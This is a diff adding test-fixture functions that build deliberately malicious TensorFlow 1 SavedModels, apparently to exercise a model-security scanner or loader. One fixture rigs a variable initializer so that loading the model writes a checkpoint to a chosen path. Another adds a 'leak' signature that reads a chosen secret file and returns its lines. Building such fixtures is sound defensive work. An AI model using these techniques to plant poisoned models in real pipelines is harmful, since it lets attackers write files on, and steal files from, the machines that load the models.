@@ -159,3 +159,79 @@ def placeholder_descriptor_source(model: Path, source: str) -> Path:
                 _bind(node, "source", source)
     attacks.write_proto(model, proto)
     return model
+
+
+def _tf1_builder(model: Path, build) -> None:
+    """Writes a TF1 SavedModel (tag `serve`, no init op) of the graph `build()` makes.
+
+    `build` returns the signatures; tensors in the graph's asset collection become assets.
+    """
+    graph = tf.Graph()
+    with graph.as_default():
+        signatures = build()
+        with tf.compat.v1.Session() as session:
+            session.run(tf.compat.v1.global_variables_initializer())
+            session.run(tf.compat.v1.local_variables_initializer())
+            builder = tf.compat.v1.saved_model.Builder(str(model))
+            builder.add_meta_graph_and_variables(
+                session, ["serve"], signature_def_map=signatures,
+                assets_collection=graph.get_collection(tf.compat.v1.GraphKeys.ASSET_FILEPATHS),
+            )
+            builder.save()
+
+
+def tf1_local_variable_saves(model: Path, target: str) -> Path:
+    """A TF1 model without init op whose local variable's initializer runs the saver's save op.
+
+    TensorFlow's loader then runs that initializer, and the save op writes a checkpoint to
+    the default of the saver's filename placeholder, which the author set to `target`.
+    """
+
+    def build():
+        x = tf.compat.v1.placeholder(tf.float32, [None], name="x")
+        v = tf.compat.v1.get_variable("v", initializer=2.0)
+        tf.compat.v1.get_local_variable("counter", initializer=0.0)
+        return {"serving_default": tf.compat.v1.saved_model.predict_signature_def({"x": x}, {"y": x * v})}
+
+    _tf1_builder(model, build)
+    proto = attacks.read_proto(model)
+    meta = proto.meta_graphs[0]
+    nodes = {n.name: n for n in meta.graph_def.node}
+    default = nodes[meta.saver_def.filename_tensor_name.split(":")[0]]
+    while default.op != "Const":  # save/Const <- save/filename <- save/filename/input
+        default = nodes[default.input[0]]
+    default.attr["value"].tensor.string_val[:] = [target.encode()]
+    nodes["counter/Assign"].input.append("^" + meta.saver_def.save_tensor_name.split(":")[0])
+    attacks.write_proto(model, proto)
+    return model
+
+
+def tf1_asset_read_by_a_signature(model: Path, vocabulary: Path, secret: Path) -> Path:
+    """A TF1 model whose `leak` signature fills a table from its asset tensor at call time.
+
+    The loader writes the real asset path into that tensor only while it runs the init op;
+    the signature reads the path stored in the graph, which the author set to `secret`, and
+    returns the file's lines.
+    """
+
+    def build():
+        x = tf.compat.v1.placeholder(tf.float32, [None], name="x")
+        asset = tf.constant(str(vocabulary), name="asset_path")
+        tf.compat.v1.add_to_collection(tf.compat.v1.GraphKeys.ASSET_FILEPATHS, asset)
+        table = tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64, name="table")
+        fill = tf.raw_ops.InitializeTableFromTextFileV2(
+            table_handle=table, filename=asset, key_index=-2, value_index=-1, name="fill"
+        )
+        with tf.control_dependencies([fill]):
+            lines, _ = tf.raw_ops.LookupTableExportV2(table_handle=table, Tkeys=tf.string, Tvalues=tf.int64)
+        return {
+            "leak": tf.compat.v1.saved_model.predict_signature_def({"x": x}, {"lines": lines, "y": x + 1.0}),
+        }
+
+    _tf1_builder(model, build)
+    proto = attacks.read_proto(model)
+    for node in proto.meta_graphs[0].graph_def.node:
+        if node.name == "asset_path":
+            node.attr["value"].tensor.string_val[:] = [str(secret).encode()]
+    attacks.write_proto(model, proto)
+    return model
